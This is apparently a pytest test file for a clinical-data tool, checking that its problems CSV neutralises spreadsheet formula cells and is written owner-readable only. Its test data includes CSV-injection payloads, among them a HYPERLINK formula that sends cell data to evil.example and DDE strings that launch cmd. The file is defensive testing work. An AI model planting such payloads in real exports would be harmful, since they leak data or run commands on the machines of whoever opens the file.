"""Spreadsheet-safe CSV (issue 22): a cell of an export that a spreadsheet would evaluate
reaches `validate --problems` (the CSV a data manager opens in Excel) as text.

Following OWASP's CSV-injection guidance: every cell whose first character (leading
blanks aside) is =, +, -, @, a tab, a carriage return (or their full-width forms) gets a
leading apostrophe unless it is a plain number, and every cell is double-quoted.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from analysis import cli
from analysis.demo.synthetic import write_synthetic
from analysis.inputs.outfiles import FORMULA_START, csv_text, spreadsheet_cell

ROOT = Path(__file__).resolve().parents[1]

#: (cell, what the CSV must hold)
FORMULAS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
    ("-", "'-"),
    # plain numbers and ordinary text are left alone
    ("-2.5", "-2.5"),
    ("+3", "+3"),
    ("1e-3", "1e-3"),
    ("-1,5", "-1,5"),
    ("Grade II", "Grade II"),
    ("a=b", "a=b"),
    ("", ""),
]


@pytest.mark.parametrize("cell,expected", FORMULAS, ids=[repr(c) for c, _ in FORMULAS])
def test_a_cell_a_spreadsheet_would_evaluate_becomes_text(cell, expected):
    assert spreadsheet_cell(cell) == expected


def test_csv_text_quotes_every_cell():
    text = csv_text([["a", 1, None], ["x;=1+1", "line\n=2+2", '"q"']])
    assert text == '"a","1",""\r\n"x;=1+1","line\n=2+2","""q"""\r\n'


def _hostile_cohort(folder: Path) -> Path:
    """The valid test cohort with formula cells in columns the rules reject (so that the
    values are echoed into the problems CSV), in the record id and the center."""
    lines = (ROOT / "tests" / "bad_inputs" / "valid_cohort.csv").read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    rows = [line.split(",") for line in lines[1:]]
    edits = {
        (0, "age"): FORMULAS[0][0],
        (1, "bm_blasts_pct"): FORMULAS[1][0],
        (2, "infusion_date"): FORMULAS[2][0],
        (3, "sex"): FORMULAS[3][0],
        (4, "crs_grade"): FORMULAS[4][0],
        (0, "patient_id"): "=1+1",
        (1, "patient_id"): "@P02",
    }
    for (row, column), value in edits.items():
        rows[row][header.index(column)] = value
    path = folder / "cohort.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def test_validate_problems_csv_neutralises_formula_cells(tmp_path, capsys):
    cohort = _hostile_cohort(tmp_path)
    problems = tmp_path / "problems.csv"
    status = cli.main(["validate", str(cohort), "--cutoff", "2023-03-01", "--problems", str(problems)])
    assert status == 1
    capsys.readouterr()
    raw = problems.read_text(encoding="utf-8-sig")
    with open(problems, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    values = {r["value"] for r in rows}
    for cell, expected in FORMULAS[:4]:
        assert expected in values, (cell, values)
        assert cell not in values
    assert "'=1+1" in values  # the tab-led cell, as the reader strips it
    records = {r["record"] for r in rows}
    assert "'=1+1" in records and "=1+1" not in records
    # no cell of the file starts a formula, and every cell is quoted
    for row in csv.reader(io.StringIO(raw)):
        for cell in row:
            assert (
                not (cell[:1] in FORMULA_START or cell.lstrip(" ")[:1] in FORMULA_START)
                or cell.strip().lstrip("+-").replace(".", "").isdigit()
            ), cell
    first_line = raw.splitlines()[0]
    assert first_line.startswith('"file","row","record"')


def test_the_synthetic_csvs_are_unchanged_by_it(tmp_path):
    """The demo's cells are plain: writing them spreadsheet-safe keeps the bundled files
    byte for byte (the generator's own guarantee)."""
    cohort, kinetics = write_synthetic(tmp_path)
    assert cohort.read_bytes() == (ROOT / "data" / "cohort.csv").read_bytes()
    assert kinetics.read_bytes() == (ROOT / "data" / "kinetics.csv").read_bytes()


def test_the_problems_csv_is_readable_by_its_owner_only(tmp_path, capsys):
    """It holds patient ids, individual values and dates: created 0600, also over an older
    0644 file and when only warnings are written (before: 0644, readable by everyone)."""
    import stat

    problems = tmp_path / "problems.csv"
    problems.write_text("old\n")
    problems.chmod(0o644)
    assert cli.main(["validate", str(_hostile_cohort(tmp_path)), "--cutoff", "2023-03-01", "--problems", str(problems)])
    assert stat.S_IMODE(problems.stat().st_mode) == 0o600 and problems.read_text(encoding="utf-8-sig") != "old\n"
    problems.chmod(0o644)
    valid = ROOT / "tests" / "bad_inputs" / "valid_cohort.csv"
    assert cli.main(["validate", str(valid), "--cutoff", "2023-03-01", "--problems", str(problems)]) == 0
    capsys.readouterr()
    assert stat.S_IMODE(problems.stat().st_mode) == 0o600
